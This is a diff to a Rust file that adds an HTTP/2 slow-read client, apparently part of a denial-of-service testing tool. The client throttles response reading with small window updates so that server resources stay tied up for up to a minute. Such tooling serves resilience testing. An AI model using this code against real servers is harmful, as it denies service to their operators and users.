@@ -87,3 +87,26 @@ pub fn asking_again_and_again(target: &Target, request: &Request) -> io::Result<
     }
     Ok(asking)
 }
+
+/// A client that reads the answer to `request` at five kilobytes a second, for a minute at most. On return some has come.
+pub fn reading_slowly(target: &Target, request: &Request) -> io::Result<()> {
+    const KILOBYTE: u32 = 1024;
+    let Connection::Clear(mut sender) = target.connect(0, Protocol::Http2)? else {
+        return Err(io::Error::other("the attack is in clear"));
+    };
+    sender.write_all(&http2::preface(KILOBYTE))?;
+    sender.write_all(&http2::head(http2::stream(0), request, false))?;
+    http2::wait_for_data(&mut sender)?;
+    super::read_in_background(Connection::Clear(sender.try_clone()?));
+    std::thread::spawn(move || {
+        for _ in 0..300 {
+            std::thread::sleep(Duration::from_millis(200));
+            for stream in [0, http2::stream(0)] {
+                if sender.write_all(&http2::wider(stream, KILOBYTE)).is_err() {
+                    return;
+                }
+            }
+        }
+    });
+    Ok(())
+}
